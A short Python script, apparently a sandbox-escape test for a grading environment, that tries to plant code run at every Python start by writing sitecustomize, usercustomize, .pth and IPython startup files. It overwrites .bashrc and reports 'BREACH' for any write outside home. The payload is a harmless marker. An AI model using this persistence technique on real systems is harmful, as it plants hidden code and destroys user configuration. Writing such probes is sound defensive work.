"""Tries: to plant code that every later Python start runs.
Gain: code in the next zygote, the judge, the instructor's shell.
Known from: sitecustomize, usercustomize, .pth files, ~/.ipython startup folders.
"""
import os
import site
import sys
import sysconfig

CODE = "import os; os.environ['OWNED'] = '1'\n"
PLACES = [
    *(f"{path}/{name}" for path in [*sys.path, *site.getsitepackages(), sysconfig.get_path("stdlib")]
      for name in ("sitecustomize.py", "usercustomize.py", "zz-mark1-attack.pth")),
    *(os.path.expanduser(f"~/{name}") for name in (".ipython/profile_default/startup/00.py", ".pythonrc", ".bashrc")),
    "{{HOME}}/.ipython/profile_default/startup/00.py", "{{HOME}}/.bashrc", "{{COURSE}}/sitecustomize.py",
]
for place in PLACES:
    try:
        os.makedirs(os.path.dirname(place), exist_ok=True)
        with open(place, "w") as file:
            file.write(CODE)
    except (OSError, ValueError):
        continue
    if not place.startswith((os.path.expanduser("~"), os.getcwd())):
        os.remove(place)
        print("BREACH wrote", place)
